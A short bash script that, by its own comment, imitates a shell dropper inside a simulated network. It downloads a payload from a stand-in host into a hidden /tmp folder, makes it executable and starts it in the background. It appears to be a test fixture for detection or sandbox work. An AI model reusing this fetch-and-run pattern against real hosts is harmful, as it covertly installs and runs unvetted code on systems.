#!/bin/bash
# Imitates a shell dropper: fetches a "payload" from the fake internet into a hidden folder under /tmp,
# makes it executable and starts it in the background. The fake web answers a tiny ELF that only exits.
dir=/tmp/.ICE-cache
mkdir -p "$dir"
cd "$dir" || exit 1
wget -q http://dl.dropper.test/payload/kupdate.x86_64 -O kupdate
chmod +x kupdate
nohup ./kupdate >/dev/null 2>&1 &
wait
